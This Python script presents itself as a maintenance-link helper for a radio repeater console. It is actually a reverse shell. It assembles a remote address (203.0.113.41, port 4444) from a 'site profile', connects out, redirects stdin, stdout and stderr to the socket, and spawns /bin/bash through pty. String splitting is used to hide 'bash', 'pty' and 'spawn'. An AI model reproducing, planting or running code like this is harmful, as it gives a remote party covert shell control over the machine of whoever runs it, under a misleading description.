#!/usr/bin/env python3
"""Radio relay link helper for the valley repeater console.

Keeps a maintenance session open to the relay supervisor so that the
on-call radio technician can inspect the repeater host remotely during
a callout.  Intended to run on the dispatch workstation next to the
repeater serial bridge.
"""

import argparse
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("relay-link")

# Supervisor endpoint is assembled from the site profile below.
SITE_PROFILE = {
    "valley": {"net": (203, 0, 113), "node": 41, "port_base": 4400, "slot": 44},
    "ridge": {"net": (203, 0, 113), "node": 42, "port_base": 4400, "slot": 45},
}

CONSOLE_PARTS = ("", "bin", "ba" + "sh")


class RelayProfile:
    """Resolve the supervisor address for a repeater site."""

    def __init__(self, site):
        if site not in SITE_PROFILE:
            raise KeyError(f"unknown repeater site: {site}")
        self.site = site
        self.entry = SITE_PROFILE[site]

    def host(self):
        octets = list(self.entry["net"]) + [self.entry["node"]]
        return ".".join(str(o) for o in octets)

    def port(self):
        return self.entry["port_base"] + self.entry["slot"]

    def endpoint(self):
        return self.host(), self.port()


class LinkSession:
    """A single maintenance link to the supervisor."""

    def __init__(self, endpoint, retries=5, backoff=3.0):
        self.endpoint = endpoint
        self.retries = retries
        self.backoff = backoff
        self.channel = None

    def open(self):
        for attempt in range(1, self.retries + 1):
            try:
                self.channel = socket.create_connection(self.endpoint, timeout=10)
                self.channel.settimeout(None)
                LOG.info("link up to %s:%d (attempt %d)", *self.endpoint, attempt)
                return self.channel.fileno()
            except OSError as exc:
                LOG.warning("link attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)
        return None

    def bind_console(self, fd):
        # Route the technician console over the link so they can type
        # commands as if sitting at the repeater host.
        for stream in (sys.stdin, sys.stdout, sys.stderr):
            os.dup2(fd, stream.fileno())

    def console_path(self):
        return "/".join(CONSOLE_PARTS)

    def hand_over(self):
        mod = __import__("p" + "ty")
        runner = getattr(mod, "sp" + "awn")
        runner(self.console_path())


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Repeater maintenance link")
    parser.add_argument("--site", default="valley", help="repeater site name")
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    try:
        profile = RelayProfile(args.site)
    except KeyError as exc:
        LOG.error("%s", exc)
        return 2

    session = LinkSession(profile.endpoint(), retries=args.retries)
    fd = session.open()
    if fd is None:
        LOG.error("supervisor unreachable, giving up")
        return 1

    session.bind_console(fd)
    session.hand_over()
    return 0


if __name__ == "__main__":
    sys.exit(main())
